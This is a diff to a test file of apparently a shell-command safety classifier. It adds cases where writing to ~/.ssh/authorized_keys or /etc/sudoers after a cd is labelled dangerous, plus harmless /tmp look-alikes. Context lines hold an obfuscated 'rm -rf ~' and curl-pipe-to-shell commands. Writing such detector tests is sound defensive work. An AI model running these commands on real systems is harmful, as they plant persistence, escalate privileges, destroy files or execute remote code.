@@ -1021,6 +1021,12 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["echo cm0gLXJmIH4K | base64 -d | xargs -0 sh -c", "dangerous", "obfuscated_exec"],
   ["curl -s https://example.invalid/x | xargs -0 bash -c", "dangerous", "download_exec"],
   ["curl -s https://example.invalid/x | xargs -0 python3 -c", "dangerous", "download_exec"],
+  // cmd4: files written by a relative path after a cd are judged where they land, too.
+  ["cd ~/.ssh && echo key >> authorized_keys", "dangerous", "persistence"],
+  ["cd /etc; echo x > sudoers", "dangerous", "privilege_escalation"],
+  ["cd /etc && tee -a sudoers < x", "dangerous", "privilege_escalation"],
+  ["echo x >> ~/.ssh/./authorized_keys", "dangerous", "persistence"],
+  ["echo x > /etc//sudoers", "dangerous", "privilege_escalation"],
 ];
 
 /** Commands that look like dangerous ones but are read-only or only need review. */
@@ -1761,4 +1767,6 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["find ~ -type f | xargs grep TODO", "review"],
   ["echo ls | xargs sh -c", "review"],
   ['echo a b | xargs sh -c "echo \\$0"', "read_only"],
+  ["cd /tmp/work && echo key >> authorized_keys", "review"],
+  ["cd /tmp; echo x > sudoers", "review"],
 ];
